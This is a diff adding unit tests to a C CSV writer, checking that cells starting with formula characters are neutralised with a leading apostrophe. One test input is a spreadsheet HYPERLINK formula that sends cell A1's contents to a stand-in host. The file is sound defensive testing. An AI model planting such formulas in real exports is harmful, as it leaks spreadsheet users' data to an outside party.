@@ -218,6 +218,23 @@ static void test_csv_field(void **state)
     assert_string_equal(s, "plain 文水|\"a,b\"|\"say \"\"hi\"\"\"|\"two\nlines\"");
     free(s);
     fclose(f);
+
+    /* Formula injection (issue 13, D10): a text beginning with = + - @, tab
+     * or CR gets a leading '; numbers (also signed ones) stay as they are. */
+    static const char *const in[] = {"=HYPERLINK(\"http://e.x/?\"&A1,\"c\")", "+1+2", "-2+3",
+                                     "@SUM(A1)", "\tx", "\rx", "-0.5", "+3e2", "-inf", "a=b"};
+    static const char *const out[] = {"\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1,\"\"c\"\")\"",
+                                      "'+1+2", "'-2+3", "'@SUM(A1)", "'\tx", "\"'\rx\"",
+                                      "-0.5", "+3e2", "'-inf", "a=b"};
+    for (size_t i = 0; i < sizeof in / sizeof in[0]; i++) {
+        f = tmpfile();
+        fs_out_csv_field(f, in[i]);
+        s = slurp(f);
+        assert_string_equal(s, out[i]);
+        assert_int_equal(fs_out_csv_neutralises(in[i]), out[i][0] == '\'' || out[i][1] == '\'');
+        free(s);
+        fclose(f);
+    }
 }
 
 static void test_run_json(void **state)
